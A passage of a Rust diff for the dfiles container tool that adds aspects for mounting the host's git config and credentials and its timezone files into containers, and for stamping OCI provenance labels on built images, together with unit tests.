+                "{}:{}/.git-credential-cache",
+                socket_dir.to_string_lossy(),
+                container_home
+            ));
+        }
+        Ok(args)
+    }
+}
+
+impl ContainerAspect for GitConfig {
+    fn name(&self) -> String {
+        String::from("GitConfig")
+    }
+    fn run_args(&self, matches: Option<&ArgMatches>) -> Result<Vec<String>> {
+        self.run_args_with(matches, &Context::default())
+    }
+    fn run_args_with(&self, _: Option<&ArgMatches>, context: &Context) -> Result<Vec<String>> {
+        self.run_args_for(Path::new(&env_var("HOME")?), &context.home()?)
+    }
+}
+
+#[cfg(test)]
+mod git_config_should {
+    use super::*;
+
+    #[test]
+    fn mount_gitconfig_and_credentials() -> Result<()> {
+        let home = tempfile::tempdir()?;
+        fs::write(home.path().join(".gitconfig"), "[user]\n")?;
+        fs::write(home.path().join(".git-credentials"), "")?;
+        fs::create_dir(home.path().join(".git-credential-cache"))?;
+        let host = |p: &str| home.path().join(p).to_string_lossy().to_string();
+
+        let aspect = GitConfig {
+            mount_gitconfig: true,
+            mount_credentials: true,
+        };
+        assert_eq!(
+            aspect.run_args_for(home.path(), "/home/me")?,
+            vec![
+                "-v".to_string(),
+                format!("{}:/home/me/.gitconfig:ro", host(".gitconfig")),
+                "-v".to_string(),
+                format!("{}:/home/me/.git-credentials:ro", host(".git-credentials")),
+                "-v".to_string(),
+                format!(
+                    "{}:/home/me/.git-credential-cache",
+                    host(".git-credential-cache")
+                ),
+            ]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn mount_only_gitconfig() -> Result<()> {
+        let home = tempfile::tempdir()?;
+        fs::write(home.path().join(".gitconfig"), "[user]\n")?;
+
+        let aspect = GitConfig {
+            mount_gitconfig: true,
+            mount_credentials: false,
+        };
+        assert_eq!(aspect.run_args_for(home.path(), "/home/me")?.len(), 2);
+        Ok(())
+    }
+
+    #[test]
+    fn reject_missing_files() -> Result<()> {
+        let home = tempfile::tempdir()?;
+        let aspect = GitConfig {
+            mount_gitconfig: false,
+            mount_credentials: true,
+        };
+        match aspect.run_args_for(home.path(), "/home/me") {
+            Err(Error::MissingGitConfig(p)) => assert!(p.ends_with(".git-credentials")),
+            other => panic!("expected MissingGitConfig, got {:?}", other),
+        }
+        Ok(())
+    }
+}
+
 // TODO: Locale should detect the host's locale settings and transfer those into the container at
 // build time; should probably be configurable by command line flag but we don't yet support
 // built-time command line flags and I'm feeling really lazy and just want to dispense entirely
@@ -589,7 +6583,7 @@ mod locale_should {
     }
 }
 
-#[derive(Serialize, Deserialize, Debug, Clone)]
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
 pub struct Timezone(pub String);
 
 impl ContainerAspect for Timezone {
@@ -610,6 +6604,75 @@ RUN echo {tz} > /etc/timezone
     }
 }
 
+/// Quick alternative to `Timezone` that bind-mounts the host's zone files rather than building
+/// a zone into the image, so the container follows the host when it changes zones. Files that
+/// don't exist on the host, e.g. `/etc/timezone` on non-Debian distros, are skipped.
+#[derive(Clone)]
+pub struct Localtime {}
+
+impl Localtime {
+    fn run_args_in(&self, host_etc: &Path) -> Vec<String> {
+        ["localtime", "timezone"]
+            .iter()
+            .filter(|f| host_etc.join(f).exists())
+            .flat_map(|f| {
+                vec![
+                    String::from("-v"),
+                    format!("{}:/etc/{}:ro", host_etc.join(f).to_string_lossy(), f),
+                ]
+            })
+            .collect()
+    }
+}
+
+impl ContainerAspect for Localtime {
+    fn name(&self) -> String {
+        String::from("Localtime")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        Ok(self.run_args_in(Path::new("/etc")))
+    }
+    fn conflicts(&self) -> Vec<Conflict> {
+        vec![Conflict {
+            aspect: Timezone(String::new()).name(),
+            severity: Severity::Warn,
+            reason: String::from("the host's /etc/localtime shadows the zone built into the image"),
+        }]
+    }
+}
+
+#[cfg(test)]
+mod localtime_should {
+    use super::*;
+
+    #[test]
+    fn mount_zone_files_read_only() -> Result<()> {
+        let etc = tempfile::tempdir()?;
+        fs::write(etc.path().join("localtime"), "")?;
+        fs::write(etc.path().join("timezone"), "Europe/Berlin\n")?;
+        let host = |f: &str| etc.path().join(f).to_string_lossy().to_string();
+
+        assert_eq!(
+            Localtime {}.run_args_in(etc.path()),
+            vec![
+                "-v".to_string(),
+                format!("{}:/etc/localtime:ro", host("localtime")),
+                "-v".to_string(),
+                format!("{}:/etc/timezone:ro", host("timezone")),
+            ]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn skip_missing_zone_files() -> Result<()> {
+        let etc = tempfile::tempdir()?;
+        fs::write(etc.path().join("localtime"), "")?;
+        assert_eq!(Localtime {}.run_args_in(etc.path()).len(), 2);
+        Ok(())
+    }
+}
+
 impl TryFrom<&str> for Timezone {
     type Error = Error;
     fn try_from(value: &str) -> Result<Self> {
@@ -617,3 +6680,139 @@ impl TryFrom<&str> for Timezone {
         Ok(Timezone(value.to_string()))
     }
 }
+
+/// OCI provenance labels stamped on every image dfiles builds.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct BuildMetadata {
+    pub version: String,
+    pub revision: Option<String>,
+    pub created: Option<String>,
+}
+
+/// The timestamp pinned by `SOURCE_DATE_EPOCH`, if set.
+pub fn source_date_epoch() -> Result<Option<u64>> {
+    match env::var("SOURCE_DATE_EPOCH") {
+        Ok(v) => v
+            .trim()
+            .parse::<u64>()
+            .map(Some)
+            .map_err(|_| Error::InvalidSourceDateEpoch(v.clone())),
+        Err(_) => Ok(None),
+    }
+}
+
+impl BuildMetadata {
+    /// Takes the revision from `GIT_SHA` and the creation time from `SOURCE_DATE_EPOCH`, falling
+    /// back to now; set the latter for reproducible builds.
+    pub fn from_env() -> Result<Self> {
+        let epoch = match source_date_epoch()? {
+            Some(epoch) => epoch,
+            None => std::time::SystemTime::now()
+                .duration_since(std::time::UNIX_EPOCH)
+                .map(|d| d.as_secs())
+                .unwrap_or(0),
+        };
+        Ok(BuildMetadata {
+            version: env!("CARGO_PKG_VERSION").to_string(),
+            revision: env::var("GIT_SHA").ok().filter(|sha| !sha.is_empty()),
+            created: Some(rfc3339(epoch)),
+        })
+    }
+
+    /// The same labels without the timestamp, which would otherwise make every build context
+    /// unique.
+    pub fn without_created(&self) -> Self {
+        BuildMetadata {
+            created: None,
+            ..self.clone()
+        }
+    }
+
+    fn labels(&self) -> Vec<(&'static str, &str)> {
+        let mut labels = vec![("org.opencontainers.image.version", self.version.as_str())];
+        if let Some(revision) = &self.revision {
+            labels.push(("org.opencontainers.image.revision", revision));
+        }
+        if let Some(created) = &self.created {
+            labels.push(("org.opencontainers.image.created", created));
+        }
+        labels
+    }
+}
+
+impl ContainerAspect for BuildMetadata {
+    fn name(&self) -> String {
+        String::from("BuildMetadata")
+    }
+    fn dockerfile_snippets(&self) -> Vec<DockerfileSnippet> {
+        let labels: Vec<String> = self
+            .labels()
+            .into_iter()
+            .map(|(k, v)| format!("{}=\"{}\"", k, v.replace('\\', "\\\\").replace('"', "\\\"")))
+            .collect();
+        // late so that label changes don't invalidate the cached layers before them
+        vec![DockerfileSnippet {
+            order: 96,
+            content: format!("LABEL {}", labels.join(" \\\n      ")),
+        }]
+    }
+}
+
+/// Formats seconds since the unix epoch as an RFC 3339 UTC timestamp.
+fn rfc3339(epoch: u64) -> String {
+    let days = (epoch / 86400) as i64;
+    let secs = epoch % 86400;
+    // civil-from-days, see http://howardhinnant.github.io/date_algorithms.html
+    let z = days + 719_468;
+    let era = z.div_euclid(146_097);
+    let doe = z.rem_euclid(146_097);
+    let yoe = (doe - doe / 1460 + doe / 36524 - doe / 146_096) / 365;
+    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
+    let mp = (5 * doy + 2) / 153;
+    let day = doy - (153 * mp + 2) / 5 + 1;
+    let month = if mp < 10 { mp + 3 } else { mp - 9 };
+    let year = yoe + era * 400 + if month <= 2 { 1 } else { 0 };
+    format!(
+        "{:04}-{:02}-{:02}T{:02}:{:02}:{:02}Z",
+        year,
+        month,
+        day,
+        secs / 3600,
+        secs % 3600 / 60,
+        secs % 60
+    )
+}
+
+#[cfg(test)]
+mod build_metadata_should {
+    use super::*;
+
+    #[test]
+    fn format_epoch_as_rfc3339() {
+        assert_eq!(rfc3339(0), "1970-01-01T00:00:00Z");
+        assert_eq!(rfc3339(951_827_696), "2000-02-29T12:34:56Z");
+        assert_eq!(rfc3339(1_700_000_000), "2023-11-14T22:13:20Z");
+    }
+
+    #[test]
+    fn emit_oci_labels() {
+        let metadata = BuildMetadata {
+            version: "0.1.0".to_string(),
+            revision: Some("abc123".to_string()),
+            created: Some(rfc3339(0)),
+        };
+        let snippets = metadata.dockerfile_snippets();
+        assert_eq!(snippets.len(), 1);
+        assert_eq!(
+            snippets[0].content,
+            r#"LABEL org.opencontainers.image.version="0.1.0" \
+      org.opencontainers.image.revision="abc123" \
+      org.opencontainers.image.created="1970-01-01T00:00:00Z""#
+        );
+        assert_eq!(
+            metadata.without_created().dockerfile_snippets()[0].content,
+            r#"LABEL org.opencontainers.image.version="0.1.0" \
+      org.opencontainers.image.revision="abc123""#
+        );
+    }
+}